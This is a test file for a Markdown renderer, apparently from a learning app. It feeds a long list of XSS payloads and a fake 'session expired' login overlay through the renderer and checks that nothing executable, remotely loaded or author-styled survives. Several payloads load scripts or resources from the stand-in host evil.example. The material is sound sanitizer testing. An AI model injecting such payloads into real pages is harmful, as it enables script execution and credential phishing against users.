import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './render-markdown';

/** OWASP's XSS filter-evasion cheat sheet, as Markdown and as raw HTML a learner could paste. */
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="x" onclick="alert(1)" onmouseover=alert(1)>x</a>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](vbscript:alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a]( javascript:alert(1) "t")',
  '[a][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](https://evil.example/x.png)',
  '![x](//evil.example/x.png)',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '![x](javascript:alert(1))',
  '![x](/api/images/../../logout)',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math href="javascript:alert(1)"><mi>x</mi></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1));">x</div>',
  '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
  '<body onload=alert(1)>',
  '<input type="image" src="https://evil.example/x.png" onfocus=alert(1) autofocus>',
  '<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>',
  '<video poster="https://evil.example/x.png"><source src="https://evil.example/x.mp4"></video>',
  '<picture><source srcset="https://evil.example/x.png"><img src="/api/images/a.png"></picture>',
  '<img src="/api/images/a.png" srcset="https://evil.example/x.png 2x">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="[a](javascript:alert(1))">x</a>',
  '**<img src=x onerror=alert(1)>**',
  '[<img src=x onerror=alert(1)>](https://ok.example)',
  '[![x](https://evil.example/x.png)](javascript:alert(1))',
  '<scr<script>ipt>alert(1)</script>',
  '<<script>script>alert(1)<</script>/script>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '$\\href{javascript:alert(1)}{x}$',
  '$$\\href{javascript:alert(1)}{x}$$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mglyph src="https://evil.example/x.png"></mglyph></math>',
  '<math><mi><img src="https://evil.example/x.png"></mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg><image href="https://evil.example/x.png"></image></svg>',
  '<audio src="https://evil.example/x.mp3" autoplay></audio>',
  '<a href="https://ok.example" target="_top" ping="https://evil.example/ping">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
];

function expectSafe(html: string) {
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(/<(iframe|object|embed|style|form|svg|link|meta|base|video|source)\b/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/\s(style|srcset|background|poster|formaction|action)\s*=/i);
  expect(html).not.toMatch(/(href|src)\s*=\s*"\s*(javascript|data|vbscript):/i);
  // Every image that stays is one of the app's own uploads.
  for (const match of html.matchAll(/<img\b[^>]*>/gi))
    expect(match[0]).toMatch(/\ssrc="\/api\/images\/[^".]/);
  // Parsed again, no element carries an unsafe attribute however it is spelt.
  const doc = new DOMParser().parseFromString(html, 'text/html');
  for (const element of doc.body.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on/i);
      if (/href|src/i.test(name)) expect(value.trim()).not.toMatch(/^(javascript|data|vbscript):/i);
      // Nothing loads from elsewhere: the only source is an own upload, and a link leaves only when clicked.
      if (/src/i.test(name)) expect(value).toMatch(/^\/api\/images\//);
      expect(name).not.toBe('ping');
      if (name === 'target') expect(value).toBe('_blank');
    }
  }
}

describe('renderMarkdown', () => {
  it.each(VECTORS)('leaves nothing that runs or loads from %s', (vector) => {
    expectSafe(renderMarkdown(vector));
    expectSafe(renderMarkdown(`Before\n\n${vector}\n\nafter **bold** ${vector}`));
  });

  it('keeps the text of what it removes harmless but readable', () => {
    expect(renderMarkdown('![a cat](https://evil.example/cat.png)')).toBe('<p>a cat</p>\n');
    expect(renderMarkdown('[a](javascript:alert(1))')).toContain('[a](javascript:alert(1))');
  });

  it('keeps the app’s own images', () => {
    expect(renderMarkdown('![chart](/api/images/abc-123.png)')).toBe(
      '<p><img src="/api/images/abc-123.png" alt="chart"></p>\n',
    );
  });

  it('opens external links in a new tab without referrer or endorsement, and relative links in place', () => {
    const external = new DOMParser().parseFromString(
      renderMarkdown('[MDN](https://developer.mozilla.org)'),
      'text/html',
    );
    const link = external.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://developer.mozilla.org');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');

    const relative = new DOMParser().parseFromString(
      renderMarkdown('[mine](/challenges) [mail](mailto:a@b.example)'),
      'text/html',
    );
    const [inApp, mail] = relative.querySelectorAll('a');
    expect(inApp!.getAttribute('href')).toBe('/challenges');
    expect(inApp!.hasAttribute('target')).toBe(false);
    expect(mail!.getAttribute('href')).toBe('mailto:a@b.example');
    expect(mail!.hasAttribute('target')).toBe(false);
  });

  it('renders headings, tables, task lists and strikethrough', () => {
    expect(renderMarkdown('## Recursion')).toBe('<h2>Recursion</h2>\n');
    const table = renderMarkdown('| a | b |\n|---|--:|\n| 1 | 2 |');
    expect(table).toContain('<table>');
    expect(table).toContain('<th>a</th>');
    expect(table).toContain('<td>1</td>');
    expect(table).toContain('<td align="right">2</td>');
    expect(table).not.toContain('style');
    expect(
      renderMarkdown('<table><tr><td style="text-align:right;background:url(x)">a</td></tr></table>'),
    ).toBe('<table><tbody><tr><td>a</td></tr></tbody></table>');
    const tasks = renderMarkdown('- [x] base case\n- [ ] recursive case');
    expect(tasks).toContain('class="contains-task-list"');
    expect(tasks.match(/<input[^>]*type="checkbox"[^>]*>/g)).toHaveLength(2);
    expect(tasks).toMatch(/<input[^>]*checked/);
    expect(tasks).toMatch(/<input[^>]*disabled/);
    expect(renderMarkdown('~~wrong~~ right')).toBe('<p><s>wrong</s> right</p>\n');
  });

  it('highlights fenced code in a known language and shows other code plain', () => {
    const code = renderMarkdown('```ts\nconst x: number = 1; // one\n```');
    expect(code).toContain('<pre><code class="language-ts">');
    expect(code).toContain('<span class="hljs-keyword">const</span>');
    expect(code).toContain('<span class="hljs-comment">// one</span>');
    expect(renderMarkdown('```\n<b>&\n```')).toBe('<pre><code>&lt;b&gt;&amp;\n</code></pre>\n');
  });

  it('renders inline and block maths as MathML', () => {
    const inline = renderMarkdown('Area is $\\pi r^2$.');
    expect(inline).toMatch(/<math[^>]*>/);
    expect(inline).toContain('<mi>π</mi>');
    expect(inline).not.toContain('style=');
    const block = renderMarkdown('$$\n\\frac{a}{b}\n$$');
    expect(block).toMatch(/<math[^>]*display="block"/);
    expect(block).toContain('<mfrac>');
  });
});

/** Every attribute on every element of the rendered HTML, as `tag[name=value]`. */
function attributesOf(html: string): string[] {
  const doc = new DOMParser().parseFromString(html, 'text/html');
  return [...doc.body.querySelectorAll('*')].flatMap((element) =>
    [...element.attributes].map(({ name, value }) => `${element.tagName.toLowerCase()}[${name}=${value}]`),
  );
}

/** The attributes an author must not set on anything: styling, naming, roles, focus, the top layer. */
const AUTHOR_ONLY =
  /\[(class|style|id|name|role|tabindex|accesskey|popover\w*|aria-[\w-]+|data-[\w-]+|slot|for)=/;

/** The renderer's own classes: highlighting, a known fence's language, KaTeX, task lists. */
const RENDERER_CLASS =
  /\[class=(hljs-[\w-]+( [\w-]+)*|language-ts|katex|katex-block|katex-error|contains-task-list|task-list-item|task-list-item-checkbox)\]$/;
const fromAuthor = (html: string) =>
  attributesOf(html).filter((attribute) => AUTHOR_ONLY.test(attribute) && !RENDERER_CLASS.test(attribute));

const OVERLAY =
  '<div class="fixed inset-0 z-50 bg-bg" style="position:fixed" id="session">Your session expired — ' +
  '<a href="https://evil.example/login" class="btn" id="login">Log in again</a></div>';

describe('renderMarkdown keeps no class, style or id from the author', () => {
  it('drops them from the fake session overlay, keeping its words', () => {
    const html = renderMarkdown(`Recursion calls itself.\n\n${OVERLAY}`);
    expect(attributesOf(html).filter((attribute) => AUTHOR_ONLY.test(attribute))).toEqual([]);
    const doc = new DOMParser().parseFromString(html, 'text/html');
    expect(doc.querySelector('div')!.attributes).toHaveLength(0);
    expect(doc.body.textContent).toContain('Your session expired — Log in again');
  });

  /** Raw HTML with the author's attributes at each `@`, and the element that must survive without them. */
  const SNIPPETS: [string, string][] = [
    ['<div @>text</div>', 'div'],
    ['<span @>text</span>', 'span'],
    ['<p @>text</p>', 'p'],
    ['<a href="/challenges" @>text</a>', 'a'],
    ['<img src="/api/images/a.png" alt="a" @>', 'img'],
    ['<pre @><code @>text</code></pre>', 'code'],
    ['<blockquote @>text</blockquote>', 'blockquote'],
    ['<h2 @>text</h2>', 'h2'],
    ['<ul @><li @>text</li></ul>', 'li'],
    ['<table @><tr @><td @>text</td></tr></table>', 'td'],
    ['<details @><summary @>text</summary>more</details>', 'summary'],
    ['<ul><li><input type="checkbox" @> text</li></ul>', 'input'],
    ['<math @><mstyle @><mi @>x</mi></mstyle></math>', 'mi'],
  ];
  it.each(SNIPPETS)('drops them from %s', (snippet, survivor) => {
    const attributes =
      'class="fixed inset-0" style="color:red" id="x" name="y" role="dialog" aria-label="Log in" ' +
      'aria-hidden="true" data-state="open" tabindex="0" accesskey="l" popover="manual" slot="s" for="x"';
    const html = renderMarkdown(`Text\n\n${snippet.replaceAll('@', attributes)}`);
    expect(html).toContain(`<${survivor}`);
    expect(fromAuthor(html)).toEqual([]);
  });

  it('gives Markdown syntax no way to set them', () => {
    const sources = [
      '```fixed inset-0 z-50\nx\n```',
      '```ts {.fixed #session style="x"}\nconst a = 1;\n```',
      '~~~ class="fixed"\nx\n~~~',
      '# Heading {.fixed #session}',
      '[link](https://ok.example "a title") {.fixed}',
      '![chart](/api/images/a.png "title") {#session}',
      '<https://ok.example/?class=fixed> https://ok.example',
      '- [x] done {.fixed}',
      '| a {.fixed} |\n|---|\n| b |',
      '$\\htmlClass{fixed inset-0}{x}$ $\\htmlId{session}{x}$ $\\htmlStyle{position:fixed}{x}$',
      '$$\\class{fixed}{x} \\cssId{session}{x} \\style{position:fixed}{x}$$',
      '$\\htmlData{state=open}{x}$',
    ];
    // The only classes left are the renderer's own (RENDERER_CLASS); nothing else the author wrote survives.
    for (const source of sources) expect(fromAuthor(renderMarkdown(source))).toEqual([]);
    expect(renderMarkdown('```fixed inset-0 z-50\nx\n```')).toBe('<pre><code>x\n</code></pre>\n');
  });

  it('cannot forge the placeholders the renderer uses for its own parts', () => {
    const forged = `\uE000${'0'.repeat(32)}:0\uE001 and \uE000${'f'.repeat(32)}:1\uE001`;
    const html = renderMarkdown(`${forged}\n\n\`\`\`ts\nconst a = 1;\n\`\`\``);
    expect(html.match(/<pre>/g)).toHaveLength(1);
    expect(html).toContain(`<p>${forged}</p>`);
  });

  it('still classes highlighted code, maths and task lists as the renderer made them', () => {
    const html = renderMarkdown(
      '```python\ndef f(): pass\n```\n\nInline $x^2$ and\n\n$$\n\\frac{a}{b}\n$$\n\n- [x] done',
    );
    const doc = new DOMParser().parseFromString(html, 'text/html');
    expect(doc.querySelector('pre > code')!.className).toBe('language-python');
    expect(doc.querySelector('pre > code .hljs-keyword')!.textContent).toBe('def');
    expect(doc.querySelector('span.katex > math msup')).not.toBeNull();
    expect(doc.querySelector('p.katex-block > span.katex > math[display="block"] mfrac')).not.toBeNull();
    expect(
      doc.querySelector('ul.contains-task-list > li.task-list-item > input.task-list-item-checkbox'),
    ).not.toBeNull();
    // KaTeX's TeX source annotation is not shown next to the formula.
    expect(doc.querySelector('span.katex')!.textContent).not.toContain('x^2');
  });
});
